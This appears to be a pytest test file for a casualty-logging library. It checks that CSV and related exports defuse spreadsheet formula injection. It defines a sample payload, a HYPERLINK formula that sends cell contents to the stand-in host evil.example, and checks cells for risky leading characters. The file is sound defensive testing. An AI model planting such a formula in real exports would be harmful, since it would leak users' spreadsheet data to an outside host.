"""CSV formula injection: text a spreadsheet would run as a formula is written with a leading quote,
and read back as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from casualtylog import CasualtyLog, Claim
from casualtylog.cli import main
from casualtylog.exports import read_acled_csv, read_ucdp_csv, write_acled_csv, write_ucdp_csv
from casualtylog.exports.acled import acled_rows
from casualtylog.exports.ucdp import ucdp_rows
from casualtylog.formats.csv import read_csv, write_hxl
from casualtylog.formats.jsonl import write_jsonl
from casualtylog.formats.resolutions import write_resolutions_csv

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _claims() -> list[Claim]:
    base = {"event": "@event", "metric": "killed"}
    first = {"figure": "10", "source": EVIL, "reported_at": "2025-04-24T09:00Z", "via": "-via", "quote": "\tquoted"}
    more = {"figure": "+2", "source": "+Source", "reported_at": "2025-04-24T10:00Z", "quote": "'=already quoted"}
    return [Claim.model_validate(base | first), Claim.model_validate(base | more)]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _assert_defused(text: str) -> None:
    risky = [cell for cell in _cells(text) if cell[:1] in set("=+-@\t\r")]
    assert risky == []


def test_hxl_defuses_formulas_and_reads_them_back() -> None:
    claims = _claims()
    out = io.StringIO()
    write_hxl(claims, out)
    text = out.getvalue()
    _assert_defused(text)
    cells = _cells(text)
    assert "'" + EVIL in cells
    assert "'+2" in cells  # the increment is not turned into the number 2
    assert "''=already quoted" in cells
    assert list(read_csv(io.StringIO(text))) == claims


def test_a_plain_csv_with_a_defused_cell_reads_as_text() -> None:
    sheet = io.StringIO(
        "event,metric,figure,source,reported_at\ne,killed,'+2,'=Evil,2025-01-01\ne,killed,3,'Apostrophe,2025-01-01\n"
    )
    claims = list(read_csv(sheet))
    assert [(str(c.figure), c.source.name) for c in claims] == [("+2", "=Evil"), ("3", "'Apostrophe")]


def test_resolutions_csv_defuses_formulas(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    out = io.StringIO()
    write_resolutions_csv(CasualtyLog(_claims()).resolve_all(), out)
    _assert_defused(out.getvalue())
    assert "'@event" in _cells(out.getvalue())
    log = tmp_path / "evil.jsonl"
    write_jsonl(_claims(), log)
    assert main(["resolve", str(log), "--format", "csv"]) == 0
    _assert_defused(capsys.readouterr().out)


def test_ucdp_and_acled_csv_defuse_formulas_and_read_back() -> None:
    log = CasualtyLog(_claims())
    rows = ucdp_rows(log)
    out = io.StringIO()
    write_ucdp_csv(rows, out)
    _assert_defused(out.getvalue())
    back = read_ucdp_csv(io.StringIO(out.getvalue()))
    assert back[0]["source_original"] == rows[0]["source_original"]
    assert back[0]["event"] == "@event"
    arows = acled_rows(log)
    out = io.StringIO()
    write_acled_csv(arows, out)
    _assert_defused(out.getvalue())
    assert read_acled_csv(io.StringIO(out.getvalue()))[0]["event_id_cnty"] == "@event"
